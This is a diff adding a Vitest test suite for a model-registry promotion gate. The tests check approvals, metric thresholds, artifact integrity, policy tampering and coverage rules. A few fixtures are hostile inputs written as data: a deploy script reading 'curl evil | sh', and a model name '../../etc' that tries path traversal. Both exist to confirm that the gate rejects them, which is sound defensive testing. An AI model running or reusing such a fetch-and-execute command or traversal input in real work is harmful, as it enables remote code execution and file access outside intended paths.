@@ -1,0 +1,238 @@
+import { describe, expect, it } from 'vitest';
+import { stringify } from 'yaml';
+import { evaluateGate } from '../src/gate/evaluate.js';
+import type { CheckResult, Decision } from '../src/gate/types.js';
+import {
+  approve, artifacts, promotion, baseFiles, gateInput, hex, history, MEMBERS, OLD_SHA, POLICY, promote3, teams, version, vpath,
+} from './gate-fixtures.js';
+
+const approvedBy = [approve('gina'), approve('carol')];
+const checks = (d: Decision): CheckResult[] => d.transitions.flatMap((t) => [...t.checks, ...t.rules.flatMap((r) => r.results)]);
+const failed = (d: Decision) => checks(d).filter((c) => c.status === 'fail');
+const failedNames = (d: Decision) => failed(d).map((c) => c.check);
+
+describe('evaluateGate: promotion to Production', () => {
+  it('passes with every rule met and both approval groups satisfied', async () => {
+    const d = await evaluateGate(gateInput(promote3(), { reviews: approvedBy }));
+    expect(failed(d)).toEqual([]);
+    expect(d.decision).toBe('pass');
+    const t = d.transitions.find((x) => x.version === 3)!;
+    expect(t).toMatchObject({ kind: 'stage', from: 'Staging', to: 'Production', champion: { version: 2 } });
+    expect(t.rules.map((r) => r.rule)).toEqual(['to-production', 'models.fraud-detector: Staging → Production'.replace('Staging → ', '')]);
+    const archived = d.transitions.find((x) => x.version === 2)!;
+    expect(archived.checks.find((c) => c.check === 'coverage')!.detail).toMatch(/archived by the promotion of fraud-detector@3/);
+  });
+
+  it('is pending, naming who must approve, while approvals are missing', async () => {
+    const d = await evaluateGate(gateInput(promote3()));
+    expect(d.decision).toBe('pending');
+    const pending = checks(d).filter((c) => c.status === 'pending');
+    expect(pending.map((c) => c.missing)).toEqual(['1 more from team ml-governance', '1 more from carol, dave']);
+  });
+
+  it('does not count the author approving their own pull request', async () => {
+    const input = gateInput(promote3(), { reviews: [approve('Gina'), approve('carol')] });
+    input.pullRequest!.author = { login: 'CAROL', type: 'User' };
+    const d = await evaluateGate(input);
+    expect(d.decision).toBe('pending');
+    expect(checks(d).find((c) => c.status === 'pending')!.missing).toBe('1 more from carol, dave');
+  });
+
+  it('does not count an approval given on an older commit', async () => {
+    const d = await evaluateGate(gateInput(promote3(), { reviews: [approve('gina', OLD_SHA), approve('carol')] }));
+    expect(d.decision).toBe('pending');
+  });
+
+  it('withdraws an approval followed by "changes requested", and a dismissed one', async () => {
+    const changes = await evaluateGate(gateInput(promote3(), { reviews: [...approvedBy, approve('carol', 'b'.repeat(40), 'User', 'CHANGES_REQUESTED')] }));
+    expect(changes.decision).toBe('pending');
+    const dismissed = await evaluateGate(gateInput(promote3(), { reviews: [approve('gina'), approve('carol', 'b'.repeat(40), 'User', 'DISMISSED')] }));
+    expect(dismissed.decision).toBe('pending');
+    const commentAfter = await evaluateGate(gateInput(promote3(), { reviews: [...approvedBy, approve('carol', 'b'.repeat(40), 'User', 'COMMENTED')] }));
+    expect(commentAfter.decision).toBe('pass');
+  });
+
+  it('never counts a bot, by type or by login', async () => {
+    const d = await evaluateGate(
+      gateInput(promote3(), { reviews: [approve('gina'), approve('carol', undefined, 'Bot'), approve('dave[bot]')] }),
+    );
+    expect(d.decision).toBe('pending');
+  });
+
+  it('does not count a reviewer outside the team, and counts one person once per group', async () => {
+    const outsider = await evaluateGate(gateInput(promote3(), { reviews: [approve('mallory'), approve('carol')] }));
+    expect(outsider.decision).toBe('pending');
+    const input = gateInput({ 'policies/promotion.yaml': stringify({ ...POLICY, rules: POLICY.rules.slice(1) }) }, { reviews: [approve('pat'), approve('PAT'), approve('pat')] });
+    const d = await evaluateGate(input);
+    expect(d.decision).toBe('pending');
+    expect(checks(d).find((c) => c.status === 'pending')!.detail).toMatch(/^1\/2: approved by pat;/i);
+  });
+
+  it('compares logins case-insensitively', async () => {
+    const d = await evaluateGate(gateInput(promote3(), { reviews: [approve('GINA'), approve('Carol')] }));
+    expect(d.decision).toBe('pass');
+  });
+
+  it('fails (not pending) when the team lookup fails, without leaking the error text', async () => {
+    const d = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, teams: teams(MEMBERS, ['ml-governance']) }));
+    expect(d.decision).toBe('fail');
+    const f = failed(d)[0]!;
+    expect(f.detail).toBe('could not be checked: the service answered HTTP 500');
+    expect(JSON.stringify(d)).not.toContain('ghp_secret');
+  });
+
+  it('fails when a team lookup never answers', async () => {
+    const slow = { isActiveMember: () => new Promise<boolean>(() => {}) };
+    const d = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, teams: slow, options: { approvals: 'require', timeoutMs: 20 } }));
+    expect(d.decision).toBe('fail');
+    expect(failed(d)[0]!.detail).toMatch(/timed out/);
+  });
+
+  it('fails a metric below its threshold, above its maximum, or missing', async () => {
+    const low = await evaluateGate(promotion({ metrics: { auc: 0.94, recall: 0.9, latency_p95_ms: 40 } }, { reviews: approvedBy }));
+    expect(low.decision).toBe('fail');
+    expect(failed(low).map((c) => c.detail)).toContain('auc = 0.94 is below the minimum 0.95');
+    const slow = await evaluateGate(promotion({ metrics: { auc: 0.96, recall: 0.9, latency_p95_ms: 140 } }, { reviews: approvedBy }));
+    expect(failed(slow).map((c) => c.detail)).toEqual(['latency_p95_ms = 140 is above the maximum 100']);
+    const missing = await evaluateGate(promotion({ metrics: { auc: 0.96, latency_p95_ms: 40 } }, { reviews: approvedBy }));
+    expect(failed(missing).map((c) => c.detail)).toEqual(['metric recall is missing']);
+  });
+
+  it('fails a regression against the champion in Production on the base branch', async () => {
+    const within = await evaluateGate(promotion({ metrics: { auc: 0.951, recall: 0.9, latency_p95_ms: 40 } }, { reviews: approvedBy }));
+    expect(within.decision).toBe('pass');
+    const worse = await evaluateGate(promotion({ metrics: { auc: 0.9455, recall: 0.9, latency_p95_ms: 40 } }, { reviews: approvedBy }));
+    expect(worse.decision).toBe('fail');
+    expect(failed(worse).map((c) => c.detail)).toContain(
+      'auc = 0.9455 regresses by 0.0245 from champion fraud-detector@2 (0.97); at most 0.02 allowed',
+    );
+  });
+
+  it('fails a missing required field (lineage)', async () => {
+    const d = await evaluateGate(promotion({ lineage: { code: { repository: 'https://github.com/acme/fraud' } } }, { reviews: approvedBy }));
+    expect(failedNames(d)).toEqual(['required field lineage.code.commit', 'required field lineage.data']);
+  });
+
+  it('fails when the artifact in the store was altered, or the store is down', async () => {
+    const altered = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, artifacts: artifacts([hex('3')]) }));
+    expect(altered.decision).toBe('fail');
+    expect(failed(altered)[0]).toMatchObject({ check: 'artifact (full)', detail: expect.stringMatching(/sha256 mismatch/) });
+    const down = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, artifacts: artifacts([], true) }));
+    expect(failed(down)[0]!.detail).toBe('could not be checked: S3ServiceException');
+  });
+});
+
+describe('evaluateGate: coverage and trust', () => {
+  it('judges a pull request that edits the policy by the base policy', async () => {
+    const weakened = stringify({ ...POLICY, rules: [{ name: 'anything', to: 'Production' }, { name: 'free', paths: ['**'] }] });
+    const d = await evaluateGate(gateInput({ 'policies/promotion.yaml': weakened, ...promote3() }));
+    expect(d.decision).toBe('pending');
+    const policyChange = d.transitions.find((t) => t.file === 'policies/promotion.yaml')!;
+    expect(policyChange.rules.map((r) => r.rule)).toEqual(['registry-config']);
+    const promotion = d.transitions.find((t) => t.version === 3)!;
+    expect(promotion.rules[0]!.rule).toBe('to-production');
+    // with the platform team's two approvals and the promotion's approvals it may merge
+    const ok = await evaluateGate(
+      gateInput({ 'policies/promotion.yaml': weakened, ...promote3() }, { reviews: [...approvedBy, approve('pat'), approve('paula')] }),
+    );
+    expect(ok.decision).toBe('pass');
+  });
+
+  it('needs the platform approvals for a pull request that edits the workflow', async () => {
+    const d = await evaluateGate(gateInput({ '.github/workflows/modelgate.yml': 'on: push\n' }, { reviews: [approve('pat')] }));
+    expect(d.decision).toBe('pending');
+    expect(d.transitions[0]!.rules[0]!.results[0]!.missing).toBe('1 more from team platform');
+  });
+
+  it('fails a file no rule covers', async () => {
+    const d = await evaluateGate(gateInput({ 'scripts/deploy.sh': 'curl evil | sh\n' }));
+    expect(d.decision).toBe('fail');
+    expect(d.uncovered).toEqual(['scripts/deploy.sh']);
+  });
+
+  it('refuses None → Production unless a rule allows the skip', async () => {
+    const skip = { [vpath(4)]: stringify(version(4, 'Production')) };
+    const d = await evaluateGate(gateInput(skip, { reviews: approvedBy }));
+    expect(d.decision).toBe('fail');
+    expect(failedNames(d)).toContain('stage order');
+    const files = baseFiles();
+    files.set('policies/promotion.yaml', stringify({ ...POLICY, rules: [{ name: 'hotfix', to: 'Production', from: ['None'], allowSkip: true }] }));
+    files.set(vpath(2), stringify(version(2, 'Archived')));
+    const allowed = await evaluateGate(gateInput(skip, {}, files));
+    expect(failed(allowed)).toEqual([]);
+    expect(allowed.decision).toBe('pass');
+  });
+
+  it('fails two versions in Production after the merge', async () => {
+    const d = await evaluateGate(gateInput({ [vpath(3)]: stringify(version(3, 'Production')) }, { reviews: approvedBy }));
+    expect(d.decision).toBe('fail');
+    expect(failed(d).find((c) => c.check === 'one Production version')!.detail).toMatch(/2 versions of fraud-detector.*2, 3|3, 2/);
+  });
+
+  it('fails a rollback to a version that never was in Production', async () => {
+    const files = baseFiles();
+    files.set(vpath(4), stringify(version(4, 'Archived')));
+    const change = { [vpath(4)]: stringify(version(4, 'Production')), [vpath(2)]: stringify(version(2, 'Archived', { metrics: { auc: 0.97, recall: 0.9, latency_p95_ms: 45 } })) };
+    const d = await evaluateGate(gateInput(change, { reviews: [approve('olga')] }, files));
+    expect(d.decision).toBe('fail');
+    expect(failed(d).map((c) => c.detail)).toContain('fraud-detector@4 was never in Production on the base branch');
+    const proven = await evaluateGate(gateInput(change, { reviews: [approve('olga')], history: history([['fraud-detector', 4]]) }, files));
+    expect(failed(proven)).toEqual([]);
+  });
+
+  it('fails a manifest whose model name escapes its folder, and a path outside the layout', async () => {
+    const escape = await evaluateGate(gateInput({ [vpath(4)]: stringify(version(4, 'None', { model: '../../etc' })) }));
+    expect(escape.decision).toBe('fail');
+    expect(escape.problems[0]).toMatchObject({ file: vpath(4), line: expect.any(Number) });
+    const odd = await evaluateGate(gateInput({ 'models/Fraud_X/versions/1.yaml': stringify(version(1, 'None', { model: 'Fraud_X' })) }));
+    expect(odd.decision).toBe('fail');
+    expect(failedNames(odd)).toContain('layout');
+  });
+
+  it('fails any change of an immutable field, and deleting a version', async () => {
+    const edited = await evaluateGate(gateInput({ [vpath(3)]: stringify(version(3, 'Staging', { metrics: { auc: 0.999 } })) }));
+    expect(failed(edited).map((c) => c.detail)).toContain('only stage and annotations change once merged; changed: metrics');
+    const deleted = await evaluateGate(gateInput({ [vpath(3)]: null }));
+    expect(deleted.decision).toBe('fail');
+  });
+
+  it('fails an unparsable manifest with its position', async () => {
+    const d = await evaluateGate(gateInput({ [vpath(4)]: 'apiVersion: modelgate.dev/v1\nstage: [oops\n' }));
+    expect(d.decision).toBe('fail');
+    expect(d.problems[0]!.file).toBe(vpath(4));
+  });
+
+  it('covers an annotation change by the rule listing its key', async () => {
+    const alert = { [vpath(2)]: stringify(version(2, 'Production', { metrics: { auc: 0.97, recall: 0.9, latency_p95_ms: 45 }, annotations: { performance_alert: 'true' } })) };
+    const d = await evaluateGate(gateInput(alert, { reviews: [approve('olga')] }));
+    expect(d.decision).toBe('pass');
+    expect(d.transitions[0]).toMatchObject({ kind: 'annotations', annotationKeys: ['performance_alert'] });
+    const other = { [vpath(2)]: stringify(version(2, 'Production', { metrics: { auc: 0.97, recall: 0.9, latency_p95_ms: 45 }, annotations: { owner: 'x' } })) };
+    expect((await evaluateGate(gateInput(other))).uncovered).toEqual([vpath(2)]);
+  });
+
+  it('registers a new model with its first version under the register rule', async () => {
+    const d = await evaluateGate(
+      gateInput({
+        'models/churn/model.yaml': stringify({ apiVersion: 'modelgate.dev/v1', kind: 'Model', name: 'churn' }),
+        [vpath(1, 'churn')]: stringify(version(1, 'None', { model: 'churn' })),
+      }),
+    );
+    expect(d.decision).toBe('pass');
+  });
+
+  it('reports approvals without requiring them under --no-approvals, and looks no team up', async () => {
+    const t = teams(MEMBERS);
+    const d = await evaluateGate(gateInput(promote3(), { reviews: undefined, pullRequest: undefined, teams: t, options: { approvals: 'skip' } }));
+    expect(d.decision).toBe('pass');
+    expect(t.calls).toEqual([]);
+  });
+
+  it('fails when the base policy cannot be read', async () => {
+    const files = baseFiles();
+    files.set('policies/promotion.yaml', 'rules: [unclosed\n');
+    const d = await evaluateGate(gateInput(promote3(), { reviews: approvedBy }, files));
+    expect(d.decision).toBe('fail');
+    expect(d.problems.length).toBeGreaterThan(0);
+  });
+});
